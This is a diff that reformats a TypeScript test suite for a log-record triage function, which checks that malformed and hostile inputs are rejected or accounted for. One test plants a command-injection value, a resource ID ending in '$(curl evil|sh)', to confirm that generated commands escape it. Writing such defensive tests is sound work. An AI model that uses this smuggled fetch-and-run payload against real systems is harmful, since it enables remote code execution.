@@ -12,7 +12,10 @@ const goodRecord = () => fixtureJson<Envelope>(RECONSTRUCTED).records[0]!;
 
 /** Runs a batch and checks the invariants every batch must keep, whatever its content. */
 function run(bodies: unknown[]): TriageResult {
-  const inputs: InputBody[] = bodies.map((body, bodyIndex) => ({ body, origin: { bodyIndex, partitionId: '3', sequenceNumber: 1000 + bodyIndex } }));
+  const inputs: InputBody[] = bodies.map((body, bodyIndex) => ({
+    body,
+    origin: { bodyIndex, partitionId: '3', sequenceNumber: 1000 + bodyIndex },
+  }));
   const result = triage(inputs);
   const s = result.stats;
   expect(s.bodies).toBe(bodies.length);
@@ -25,7 +28,10 @@ function run(bodies: unknown[]): TriageResult {
   }
   for (const event of result.events) expectValidEnrichedEvent(event);
   // Every body shows up somewhere: as a record of some kind.
-  const seen = new Set([...result.rejected.map((r) => r.origin.bodyIndex), ...result.events.map((e) => e.source.bodyIndex)]);
+  const seen = new Set([
+    ...result.rejected.map((r) => r.origin.bodyIndex),
+    ...result.events.map((e) => e.source.bodyIndex),
+  ]);
   for (const event of result.events) expect(seen.has(event.source.bodyIndex)).toBe(true);
   return result;
 }
@@ -54,8 +60,14 @@ describe('hostile input: nothing throws, every input is accounted for, good reco
   it('unknown shapes and scalar JSON', () => {
     const result = run(['{"foo":1}', '42', '"hello"', 'true', 'null', '[]', { hello: 'world' }, 7, true, GOOD]);
     expect(reasons(result)).toEqual([
-      'unknown_shape', 'unknown_shape', 'unknown_shape', 'unknown_shape', 'unknown_shape',
-      'unknown_shape', 'unsupported_type', 'unsupported_type',
+      'unknown_shape',
+      'unknown_shape',
+      'unknown_shape',
+      'unknown_shape',
+      'unknown_shape',
+      'unknown_shape',
+      'unsupported_type',
+      'unsupported_type',
     ]);
     expect(result.stats).toMatchObject({ findings: 1, records: 11 });
   });
@@ -64,9 +76,19 @@ describe('hostile input: nothing throws, every input is accounted for, good reco
     const wrongStatus = { ...goodRecord(), properties: { ...goodRecord().properties, JobStatus: 42 } };
     const objectCode = { ...goodRecord(), properties: { ...goodRecord().properties, JobFailureCode: ['a'] } };
     const nullProps = { ...goodRecord(), properties: null };
-    const result = run([{ records: 'nope' }, { records: [1, 'a', null, [], true, wrongStatus, objectCode, nullProps, goodRecord()] }]);
+    const result = run([
+      { records: 'nope' },
+      { records: [1, 'a', null, [], true, wrongStatus, objectCode, nullProps, goodRecord()] },
+    ]);
     expect(reasons(result)).toEqual([
-      'invalid_field:records', 'unknown_shape', 'unknown_shape', 'unknown_shape', 'unknown_shape', 'unknown_shape', 'invalid_field:JobFailureCode', 'missing_field:JobOperation',
+      'invalid_field:records',
+      'unknown_shape',
+      'unknown_shape',
+      'unknown_shape',
+      'unknown_shape',
+      'unknown_shape',
+      'invalid_field:JobFailureCode',
+      'missing_field:JobOperation',
     ]);
     expect(result.stats.ignored.byReason).toEqual({ 'status:42': 1 });
     expect(result.stats.findings).toBe(1);
@@ -75,7 +97,14 @@ describe('hostile input: nothing throws, every input is accounted for, good reco
   it('nulls where values belong', () => {
     const record = goodRecord();
     const nulls = Object.fromEntries(Object.keys(record.properties).map((key) => [key, null]));
-    const result = run([{ records: [{ ...record, properties: nulls }, { ...record, category: null, properties: nulls }] }]);
+    const result = run([
+      {
+        records: [
+          { ...record, properties: nulls },
+          { ...record, category: null, properties: nulls },
+        ],
+      },
+    ]);
     expect(reasons(result)).toEqual(['missing_field:JobOperation', 'unknown_shape']);
   });
 
@@ -145,8 +174,11 @@ describe('hostile input: nothing throws, every input is accounted for, good reco
 
   it('hostile names never reach a command unescaped', () => {
     const record = goodRecord();
-    const evil = '/subscriptions/00000000-0000-0000-0000-000000000000/resourceGroups/rg-app/providers/Microsoft.Compute/virtualMachines/vm$(curl evil|sh)';
-    const result = run([{ records: [{ ...record, properties: { ...record.properties, DatasourceResourceId: evil } }] }]);
+    const evil =
+      '/subscriptions/00000000-0000-0000-0000-000000000000/resourceGroups/rg-app/providers/Microsoft.Compute/virtualMachines/vm$(curl evil|sh)';
+    const result = run([
+      { records: [{ ...record, properties: { ...record.properties, DatasourceResourceId: evil } }] },
+    ]);
     const commands = result.events.flatMap((event) => event.causes.flatMap((cause) => cause.commands));
     expect(commands.length).toBeGreaterThan(0);
     for (const command of commands) expect(command.text).not.toContain('$(curl');
